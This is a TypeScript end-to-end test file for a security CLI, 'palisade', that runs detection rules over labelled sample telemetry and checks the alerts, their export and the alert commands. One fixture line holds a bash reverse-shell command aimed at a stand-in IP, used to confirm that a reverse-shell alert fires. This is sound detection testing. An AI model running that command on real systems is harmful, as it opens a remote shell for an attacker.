/**
 * End to end through the real CLI: `palisade sample --telemetry` writes a small estate with a day of background
 * activity and labelled attacks; `estate import` loads it (with its Defender pricings); `detect` runs the shipped
 * catalog over the telemetry; `security alert list|show|update` read and change the alerts. Every attack whose plan
 * is Standard raises exactly its labelled alert type on its resource with its severity; the same attacks on Free
 * subscriptions and all the background raise nothing.
 */
import { mkdtempSync, readFileSync, rmSync, writeFileSync, mkdirSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ArmAlert } from '../../src/protection/index.js';
import { runCli } from '../cli/helpers.js';

interface Label {
  id: string;
  alertType: string;
  resourceId: string;
  severity: string;
  expectAlert: boolean;
  startTime: string;
  files: string[];
}

let dir: string;
let db: string;
let labels: { attacks: Label[]; background: { files: string[]; events: number } };
let summary: Record<string, unknown>;
let alerts: ArmAlert[];

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'palisade-detect-e2e-'));
  db = join(dir, 'store.db');
  const sample = await runCli(['sample', '--out', join(dir, 'sample'), '--subscriptions', '12', '--telemetry', '-o', 'none']);
  expect(sample.code, sample.stderr).toBe(0);
  const imported = await runCli(['estate', 'import', '--from', join(dir, 'sample'), '--store', db, '-o', 'none']);
  expect(imported.code, imported.stderr).toBe(0);
  labels = JSON.parse(readFileSync(join(dir, 'sample', 'telemetry', 'labels.json'), 'utf8'));
  // continuous export of alerts to a workspace, over every subscription of the sample
  const subs = (JSON.parse(readFileSync(join(dir, 'sample', 'manifest.json'), 'utf8')).subscriptions as Array<{ subscriptionId: string }>).map((x) => x.subscriptionId);
  // (an automation covers its own subscription: one per subscription, all into one workspace)
  for (const sub of subs) {
    const automation = await runCli([
      'security', 'automation', 'create', '--name', 'alerts-to-workspace', '--resource-group', 'security-ops', '--location', 'eastus', '--subscription', sub,
      '--scopes', JSON.stringify([{ scopePath: `/subscriptions/${sub}` }]),
      '--sources', '[{"eventSource":"Alerts"}]',
      '--actions', JSON.stringify([{ actionType: 'Workspace', workspaceResourceId: `/subscriptions/${subs[0]}/resourceGroups/security-ops/providers/Microsoft.OperationalInsights/workspaces/soc` }]),
      '--store', db, '-o', 'none',
    ]);
    expect(automation.code, automation.stderr).toBe(0);
  }
  const detect = await runCli(['detect', '--from', join(dir, 'sample', 'telemetry'), '--store', db]);
  expect(detect.code, detect.stderr).toBe(0);
  summary = JSON.parse(detect.stdout);
  const list = await runCli(['security', 'alert', 'list', '--store', db]);
  expect(list.code, list.stderr).toBe(0);
  alerts = JSON.parse(list.stdout).value;
}, 300_000);

afterAll(() => rmSync(dir, { recursive: true, force: true }));

const resourceOf = (a: ArmAlert) => a.properties.resourceIdentifiers[0].azureResourceId.toLowerCase();

describe('palisade detect over the labelled sample telemetry', () => {
  it('reads every event and rejects none', () => {
    expect(summary.eventsRead).toBeGreaterThan(labels.background.events);
    expect(summary.rejected).toBe(0);
    expect(summary.ruleErrors).toBe(0);
  });

  it('has Standard attacks and Free repeats to check', () => {
    expect(labels.attacks.filter((a) => a.expectAlert).length).toBeGreaterThanOrEqual(15);
    expect(labels.attacks.filter((a) => !a.expectAlert).length).toBeGreaterThanOrEqual(5);
  });

  it('every attack on a Standard plan raises exactly its alert type, on its resource, with its severity', () => {
    const problems: string[] = [];
    for (const attack of labels.attacks.filter((a) => a.expectAlert)) {
      const start = Date.parse(attack.startTime);
      const found = alerts.filter((a) => resourceOf(a) === attack.resourceId.toLowerCase() && Date.parse(a.properties.endTimeUtc) >= start && Date.parse(a.properties.startTimeUtc) < start + 3_600_000);
      const got = found.map((a) => `${a.properties.alertType}/${a.properties.severity}`);
      if (got.length !== 1 || got[0] !== `${attack.alertType}/${attack.severity}`) problems.push(`${attack.id}: expected ${attack.alertType}/${attack.severity}, got [${got.join(', ')}]`);
    }
    expect(problems).toEqual([]);
  });

  it('attacks on Free subscriptions and the background raise nothing: every alert belongs to a Standard attack', () => {
    const free = labels.attacks.filter((a) => !a.expectAlert).map((a) => a.resourceId.toLowerCase());
    expect(alerts.filter((a) => free.includes(resourceOf(a)))).toEqual([]);
    expect(alerts).toHaveLength(labels.attacks.filter((a) => a.expectAlert).length);
  });

  it('the summary counts alerts by type', () => {
    const byType = (summary.alerts as { byType: Record<string, number> }).byType;
    const expected: Record<string, number> = {};
    for (const a of labels.attacks.filter((x) => x.expectAlert)) expected[a.alertType] = (expected[a.alertType] ?? 0) + 1;
    expect(byType).toEqual(expected);
  });
});

describe('alerts to continuous export', () => {
  it('every alert the run raised reaches the workspace SecurityAlert table once', async () => {
    expect(summary.exportedAlertRows).toBe(alerts.length);
    const deliver = await runCli(['export', 'deliver', '--until-empty', '--store', db, '-o', 'none']);
    expect(deliver.code, deliver.stderr).toBe(0);
    const rows = JSON.parse((await runCli(['workspace', 'query', 'SELECT SystemAlertId, AlertType FROM SecurityAlert', '--store', db, '-o', 'json'])).stdout) as Array<{ SystemAlertId: string; AlertType: string }>;
    expect(rows.map((r) => r.SystemAlertId).sort()).toEqual(alerts.map((a) => a.name).sort());
  });
});

describe('palisade security alert', () => {
  it('lists with filters (status, severity, subscription) and tables', async () => {
    const high = JSON.parse((await runCli(['security', 'alert', 'list', '--severity', 'High', '--store', db])).stdout).value as ArmAlert[];
    expect(high.length).toBeGreaterThan(0);
    expect(high.every((a) => a.properties.severity === 'High')).toBe(true);
    const sub = alerts[0].id.split('/')[2];
    const mine = JSON.parse((await runCli(['security', 'alert', 'list', '--subscription', sub, '--store', db])).stdout).value as ArmAlert[];
    expect(mine.length).toBeGreaterThan(0);
    expect(mine.every((a) => a.id.startsWith(`/subscriptions/${sub}/`))).toBe(true);
    const table = await runCli(['security', 'alert', 'list', '--store', db, '-o', 'table', '--query', "value[].{alert:properties.alertType, severity:properties.severity}"]);
    expect(table.code).toBe(0);
    expect(table.stdout).toMatch(/Alert\s+Severity/);
  });

  it('shows one alert; a missing one exits 3', async () => {
    const name = alerts[0].name;
    const shown = await runCli(['security', 'alert', 'show', '--name', name, '--store', db]);
    expect(shown.code).toBe(0);
    expect(JSON.parse(shown.stdout)).toEqual(alerts[0]);
    const missing = await runCli(['security', 'alert', 'show', '--name', 'nope', '--store', db]);
    expect(missing.code).toBe(3);
    expect(missing.stderr).toContain('(AlertNotFound)');
  });

  it('updates the status with az values; bad values exit 2', async () => {
    const name = alerts[0].name;
    const dismissed = await runCli(['security', 'alert', 'update', '--name', name, '--status', 'dismiss', '--store', db], { PALISADE_NOW: '2026-09-01T00:00:00Z' });
    expect(dismissed.code, dismissed.stderr).toBe(0);
    expect(JSON.parse(dismissed.stdout).properties.status).toBe('Dismissed');
    const listed = JSON.parse((await runCli(['security', 'alert', 'list', '--status', 'Dismissed', '--store', db])).stdout).value as ArmAlert[];
    expect(listed.map((a) => a.name)).toEqual([name]);
    const back = await runCli(['security', 'alert', 'update', '--name', name, '--status', 'Active', '--store', db]);
    expect(JSON.parse(back.stdout).properties.status).toBe('Active');
    const bad = await runCli(['security', 'alert', 'update', '--name', name, '--status', 'closed', '--store', db]);
    expect(bad.code).toBe(2);
    expect(bad.stderr).toContain('(InvalidAlertStatus)');
  });
});

describe('palisade detect inputs', () => {
  it('reports rejected records with their file and line, and keeps going', async () => {
    const logs = join(dir, 'bad');
    mkdirSync(join(logs, 'processEvent'), { recursive: true });
    writeFileSync(
      join(logs, 'processEvent', 'web.jsonl'),
      [
        '{"EventID":1,"UtcTime":"2026-08-31 10:00:00.000","Image":"/usr/bin/bash","CommandLine":"bash -i >& /dev/tcp/203.0.113.10/4444 0>&1","User":"www-data"}',
        '{not json',
        '{"EventID":1,"Image":"/usr/bin/ls","CommandLine":"ls"}',
      ].join('\n'),
    );
    const vm = '/subscriptions/00000000-0000-0000-0000-0000000000aa/resourceGroups/rg/providers/Microsoft.Compute/virtualMachines/web';
    const other = join(dir, 'other.db');
    const r = await runCli(['detect', '--from', logs, '--resource-id', vm, '--all-plans', '--store', other]);
    expect(r.code, r.stderr).toBe(0);
    const out = JSON.parse(r.stdout);
    expect(out.eventsRead).toBe(1);
    expect(out.rejected).toBe(2);
    expect(out.rejectedRecords.map((x: { code: string; line: number }) => [x.code, x.line])).toEqual([
      ['TelemetryJsonSyntax', 2],
      ['TelemetryInvalidTime', 3],
    ]);
    expect(out.alerts.byType).toEqual({ VM_ReverseShell: 1 });
    expect(r.stderr).toContain('WARNING: 2 record(s) could not be read');
  });

  it('warns when the store has no pricings, and a missing path is an error', async () => {
    const empty = join(dir, 'empty.db');
    const r = await runCli(['detect', '--from', join(dir, 'bad'), '--resource-id', '/subscriptions/00000000-0000-0000-0000-0000000000aa/resourceGroups/rg/providers/Microsoft.Compute/virtualMachines/web', '--store', empty]);
    expect(r.code).toBe(0);
    expect(r.stderr).toContain('every plan counts as Free');
    expect(JSON.parse(r.stdout).alerts.created).toBe(0);
    const missing = await runCli(['detect', '--from', join(dir, 'no-such-dir'), '--store', empty]);
    expect(missing.code).not.toBe(0);
  });
});
